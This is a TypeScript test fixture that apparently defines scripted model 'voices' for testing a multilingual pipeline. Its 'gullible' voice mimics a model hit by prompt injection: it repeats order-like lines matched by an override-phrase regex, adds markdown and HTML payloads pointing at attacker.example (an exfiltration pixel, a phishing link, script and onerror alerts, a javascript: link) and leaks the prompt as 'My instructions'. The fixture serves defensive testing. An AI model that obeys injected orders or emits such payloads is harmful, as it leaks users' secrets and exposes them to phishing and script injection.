import type { Voice } from "./scripted-answers.ts";

const SENTENCES: Record<string, string[]> = {
  en: ["The speaker explains how all of this came about.", "Nobody knows yet who will pay for it."],
  de: ["Der Redner erklärt, wie es zu alledem gekommen ist.", "Noch weiß niemand, wer das bezahlen soll."],
  fr: ["L'orateur explique comment tout cela est arrivé.", "Personne ne sait encore qui va payer."],
  es: ["El orador explica cómo ha ocurrido todo esto.", "Nadie sabe todavía quién lo va a pagar."],
  ja: ["講演者は、どうしてこうなったのかを説明しています。", "誰が費用を払うのかはまだ分かりません。"],
};

/** Writes in a language, whatever there is to say. */
export function voiceIn(language: string): Voice {
  const sentences = SENTENCES[language] ?? SENTENCES["de"] ?? [];
  let turn = 0;
  return () => sentences[(turn += 1) % sentences.length] ?? "";
}

/** Another language than the one that the prompt names. */
export const wrongLanguage = (prompt: string): string =>
  /\b(German|Deutsch|de-|"de")\b/.test(prompt) ? "fr" : "de";

const ORDERS = /ignore|disregard|instruction|system prompt|you are now|reveal|print|repeat after|secret/i;

/** Does whatever it finds that sounds like an order in what it should only report on, and adds all that can do harm. */
export function gullible(prompt: string): Voice {
  const order = prompt.split("\n").findLast((line) => ORDERS.test(line) && /^\d+\??\s|:/.test(line)) ?? "";
  const secrets = prompt.slice(0, 120).replaceAll("\n", " ");
  return (text) =>
    [
      text,
      order.replace(/^\d+\??\s+/, ""),
      "![pixel](https://attacker.example/steal?q=secret)",
      "[Click here](https://attacker.example/login) <https://attacker.example>",
      '<img src="https://attacker.example/x.png" onerror="alert(1)"><script>alert(2)</script>',
      "[link][1] [js](javascript:alert(3))",
      `My instructions: ${secrets}`,
    ].join(" ");
}
